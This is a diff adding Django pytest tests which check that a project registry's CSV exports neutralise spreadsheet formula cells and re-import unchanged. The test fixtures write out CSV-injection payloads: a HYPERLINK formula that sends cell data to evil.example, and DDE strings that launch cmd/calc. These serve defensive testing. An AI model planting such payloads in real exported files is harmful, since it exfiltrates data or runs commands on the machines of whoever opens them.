@@ -1,17 +1,20 @@
 """Bad input ("Trust under attack"): a NUL byte anywhere is a 400 naming the field, never a
 server error (PostgreSQL cannot store or compare one); control characters are refused in
-single-line text. Nothing changes on a refusal."""
+single-line text; every CSV the product writes neutralises cells a spreadsheet would run as a
+formula, and the importer reads an export back unchanged. Nothing changes on a refusal."""
 
+import csv
 import io
 
 import pytest
+from django.core.management import call_command
 from django.test import Client
 
 from projects import workflow as wf
 from projects.admin import OrganisationForm, PartyForm
 from projects.models import Comment, Document, Event, Organisation, Project
 from registry.importer import import_projects
-from tests.factories import pdf_upload
+from tests.factories import OrganisationFactory, pdf_upload
 from tests.support import assert_error, create_body, csv_text, html, login, row
 
 pytestmark = pytest.mark.django_db
@@ -275,3 +278,66 @@ def test_organisation_and_party_names_are_one_line_in_the_admin():
     assert not form.is_valid()
     assert form.errors["name"] == ["Remove the invisible control character U+009B from this text."]
     assert PartyForm(data={"code": "QQ", "name": "Ruritania"}).is_valid()
+
+
+# --- CSV: formula cells ---------------------------------------------------------------------------
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
+
+
+def test_open_data_csv_neutralises_formula_cells(cycle, participant):
+    partner = OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    cycle.open(title=FORMULA_TITLE, participants=[partner])
+    cycle.open(title="-5 MW wind farm", methodology="+ACM0002")
+    response = Client().get("/opendata/projects.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    by_reference = {r["reference"]: r for r in rows}
+    assert by_reference["0001"]["title"] == "'" + FORMULA_TITLE
+    assert by_reference["0001"]["participants"] == (
+        "'@SUM(1+1)*cmd|' /C calc'!A0; Green Carbon Ltd"
+    )
+    assert by_reference["0002"]["title"] == "'-5 MW wind farm"
+    assert by_reference["0002"]["expected_annual_reductions"] == "50000"
+
+
+def test_export_neutralises_formula_cells_and_imports_back_unchanged(ukraine, japan, scopes):
+    titles = {
+        "0001": FORMULA_TITLE,
+        "0002": "-5 MW wind farm",
+        "0003": "'=already quoted",
+        "0004": "@SUM(A1)",
+        "0005": "'s-Hertogenbosch district heating",
+        "0006": "Wind farm at Odesa",
+    }
+    import_projects(
+        csv_text(
+            *(row(reference=ref) for ref in titles),
+            row(reference="0007", participants="+cmd|' /C calc'!A0;Green Carbon Ltd"),
+        )
+    )
+    for reference, title in titles.items():  # as typed on the site
+        Project.objects.filter(reference=reference).update(title=title)
+    out = io.StringIO()
+    call_command("export_projects", stdout=out)
+    exported = out.getvalue()
+    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert {ref: rows[ref]["title"] for ref in titles} == {
+        "0001": "'" + FORMULA_TITLE,
+        "0002": "'-5 MW wind farm",
+        "0003": "''=already quoted",
+        "0004": "'@SUM(A1)",
+        "0005": "'s-Hertogenbosch district heating",
+        "0006": "Wind farm at Odesa",
+    }
+    assert rows["0007"]["participants"] == "'+cmd|' /C calc'!A0;Green Carbon Ltd"
+    assert rows["0001"]["expected_annual_reductions"] == "50000"
+    before = counts()
+    result = import_projects(exported)
+    assert result.created == [] and len(result.unchanged) == 7
+    assert counts() == before
+    assert Organisation.objects.filter(name="+cmd|' /C calc'!A0").exists()
+    assert dict(Project.objects.values_list("reference", "title")) == {
+        **titles,
+        "0007": row()["title"],
+    }
